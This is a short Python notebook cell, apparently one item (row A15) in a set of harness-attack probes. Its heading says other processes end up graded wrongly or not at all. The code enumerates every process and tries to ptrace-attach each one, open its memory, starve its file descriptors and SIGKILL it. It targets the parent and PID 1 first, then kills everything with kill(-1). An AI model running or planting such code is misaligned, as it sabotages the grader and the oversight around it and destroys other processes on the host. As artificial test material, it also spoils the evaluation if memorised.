# %% [markdown] row="A15"
# # ptrace and signals to neighbours and parents
#
# Others are graded wrongly or not at all: every process in sight is stopped, traced, renamed, limited or killed, the parent first.

# %% before="mean-square"
import os, signal, ctypes, resource, sys
libc = ctypes.CDLL(None, use_errno=True)
PTRACE_ATTACH, PTRACE_SEIZE = 16, 0x4206
others = [int(name) for name in os.listdir("/proc") if name.isdigit() and int(name) != os.getpid()]
print(os.getpid(), os.getppid(), others)
for pid in {os.getppid(), 1, *others}:
    if pid > 0:
        if libc.ptrace(PTRACE_SEIZE, pid, 0, 0) == 0:
            print("traced", pid)
        try:
            open(f"/proc/{pid}/mem", "r+b").close()
            print("memory of", pid)
        except OSError as error:
            print(error)
        try:
            resource.prlimit(pid, resource.RLIMIT_NOFILE, (4, 4))
        except (OSError, PermissionError, ValueError) as error:
            print(error)
        try:
            os.kill(pid, signal.SIGKILL)
        except OSError as error:
            print(error)
try:
    os.kill(-1, signal.SIGKILL)
except OSError as error:
    print(error)
